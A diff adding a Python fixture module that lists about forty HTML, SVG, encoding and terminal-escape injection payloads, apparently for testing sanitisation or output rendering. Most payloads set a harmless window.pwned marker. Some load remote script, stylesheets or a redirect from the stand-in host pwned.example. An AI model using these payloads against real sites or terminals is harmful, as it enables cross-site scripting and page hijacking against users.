@@ -1,0 +1,48 @@
+"""Forty documents that want out of a page or a terminal."""
+
+from __future__ import annotations
+
+MARK = "pwned"  # what a payload would set, show or fetch if it could
+
+PAYLOADS = [
+    "<script>window.pwned=1</script>",
+    "<SCRIPT SRC=//pwned.example/x.js></SCRIPT>",
+    "<img src=x onerror=window.pwned=1>",
+    "<img src='https://pwned.example/pixel.png'>",
+    "<svg onload=window.pwned=1>",
+    "<svg><script>window.pwned=1</script></svg>",
+    "<svg><a xlink:href='javascript:window.pwned=1'><text y=20>pwned</text></a></svg>",
+    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></table></math>",
+    "<iframe src='javascript:window.pwned=1'></iframe>",
+    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
+    "<object data='data:text/html,<script>window.pwned=1</script>'></object>",
+    "<embed src='//pwned.example/x.swf'>",
+    "<link rel=stylesheet href='//pwned.example/x.css'>",
+    "<style>@import '//pwned.example/x.css'; body{display:none}</style>",
+    "</style><script>window.pwned=1</script>",
+    "</pre></article></main><script>window.pwned=1</script>",
+    "</title><script>window.pwned=1</script>",
+    "<!--><script>window.pwned=1</script>-->",
+    "<![CDATA[<script>window.pwned=1</script>]]>",
+    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>window.pwned=1</script>",
+    "<meta http-equiv=refresh content='0;url=https://pwned.example/'>",
+    "<base href='https://pwned.example/'>",
+    "<form action='https://pwned.example/'><button autofocus onfocus=window.pwned=1>pwned</button></form>",
+    "<details open ontoggle=window.pwned=1>pwned",
+    "<body onload=window.pwned=1>",
+    "<video><source onerror=window.pwned=1></video>",
+    "<a href='javascript:window.pwned=1'>pwned</a>",
+    "\" onmouseover=\"window.pwned=1\" x=\"",
+    "' autofocus onfocus='window.pwned=1' x='",
+    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
+    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
+    "&#x3c;img src=x onerror=window.pwned=1&#x3e;",
+    "\u202e\u2066<script>window.pwned=1</script>\u2069\u202c",
+    "\u2028\u2029\x85<script>window.pwned=1</script>",
+    "\x1b[2J\x1b]0;pwned\x07\x1b[31m\x9b31m",
+    "\x00<scr\x00ipt>window.pwned=1</scr\x00ipt>",
+    "\ufeff\u200b\u200d\xad<script>window.pwned=1</script>",
+    "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
+    "Z\u0351\u036b\u0343\u036a\u0302" * 40 + "pwned",
+]  # fmt: skip
